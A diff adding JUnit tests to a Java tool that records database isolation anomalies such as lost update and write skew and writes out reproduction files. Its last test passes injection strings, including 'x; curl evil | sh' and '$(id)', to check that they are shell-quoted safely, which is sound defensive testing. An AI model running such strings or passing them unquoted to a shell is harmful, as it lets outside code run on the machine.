@@ -7,11 +7,16 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.stream.Stream;
+import moirai.analysis.IsolationLevel;
+import moirai.analysis.Phenomenon;
 import moirai.history.HistoryBuilder;
 import moirai.history.RunHeader;
 import moirai.runs.cases.Case;
 import moirai.runs.cases.CaseFormat;
+import moirai.runs.cases.CaseText;
 import moirai.runs.cases.Cases;
+import moirai.runs.cases.Claim;
+import moirai.runs.cases.Origin;
 import moirai.runs.report.Golden;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -71,5 +76,79 @@ class CaseFilesTest {
         assertThat(Files.readString(folder.resolve("AnomalyTest.java")))
                 .contains(plain)
                 .doesNotContain("\\u");
+    }
+
+    /** A run may expect more, or less, than the level that its case breaks. */
+    @Test
+    void theLevelThatIsBrokenIsThatOfTheClaim() throws IOException {
+        Case run = lostUpdate(IsolationLevel.SERIALIZABLE);
+        var claim = new Claim.Forbidden(Phenomenon.LOST_UPDATE, IsolationLevel.SNAPSHOT_ISOLATION);
+
+        Path folder = CaseFiles.write(parent, new Case(claim, run.history(), run.origin(), List.of()));
+
+        assertThat(Files.readString(folder.resolve("sessions.sql")))
+                .startsWith("-- lost-update: what snapshot-isolation must not show.\n")
+                .contains("BEGIN ISOLATION LEVEL READ COMMITTED;", "-- of snapshot-isolation explains it.")
+                .doesNotContainIgnoringCase("serializable");
+        assertThat(Files.readString(folder.resolve("AnomalyTest.java")))
+                .contains(" * lost-update, which snapshot-isolation forbids, on PostgreSQL 18.6 at read-committed.");
+    }
+
+    private static Case lostUpdate(IsolationLevel expect) {
+        return Cases.of(Phenomenon.LOST_UPDATE, "read-committed", expect, """
+                T0 s0 ok @1000..2000 r1=[] a1=1
+                T1 s1 ok @3000..4000 r1=[] a1=2
+                T2 s2 ok @3500..5000 r1=[1 2]
+                """);
+    }
+
+    /** By their times T1 would read when T0 has committed, and T2 before T1 has. */
+    @Test
+    void stepsAreInAnOrderInWhichReadsCanShowWhatTheyShowed() {
+        Recipe recipe = Recipe.of(lostUpdate(IsolationLevel.SNAPSHOT_ISOLATION)).orElseThrow();
+
+        assertThat(recipe.steps().stream().map(step -> "T" + step.txn() + " " + step.kind()))
+                .containsExactly(
+                        "T0 BEGIN",
+                        "T0 READ",
+                        "T0 APPEND",
+                        "T1 BEGIN",
+                        "T1 READ",
+                        "T0 COMMIT",
+                        "T2 BEGIN",
+                        "T1 APPEND",
+                        "T1 COMMIT",
+                        "T2 READ",
+                        "T2 COMMIT");
+    }
+
+    @Test
+    void whatStandsBesideACaseIsLeftAloneInFoldersThatAreNotItsOwn() throws IOException {
+        Case skew = Cases.writeSkew();
+        Path foreign = Files.createDirectories(parent.resolve("notes"));
+        Files.writeString(foreign.resolve("case.txt"), "mine");
+        Path own = CaseFiles.write(parent, skew);
+        Files.writeString(own.resolve("case.txt"), "old");
+
+        CaseFiles.rewrite(foreign.resolve("case.json"), skew);
+        CaseFiles.rewrite(own.resolve("other.json"), skew);
+
+        assertThat(foreign.resolve("case.txt")).hasContent("mine");
+        assertThat(foreign.resolve("sessions.sql")).doesNotExist();
+        assertThat(own.resolve("case.txt")).hasContent("old");
+
+        CaseFiles.rewrite(own.resolve("case.json"), skew);
+
+        assertThat(own.resolve("case.txt")).hasContent(CaseText.of(skew));
+    }
+
+    @Test
+    void aShellTakesTheCommandOfACaseForArguments() {
+        Case skew = Cases.writeSkew();
+        List<String> argv = List.of("run", "--db", "postgres", "--name", "x; curl evil | sh", "it's", "$(id)");
+        var origin = new Origin("postgres", "", argv, 2, List.of());
+
+        assertThat(CaseText.of(new Case(skew.claim(), skew.history(), origin, List.of())))
+                .contains("\nrun        moirai run --db postgres --name 'x; curl evil | sh' 'it'\\''s' '$(id)'\n");
     }
 }
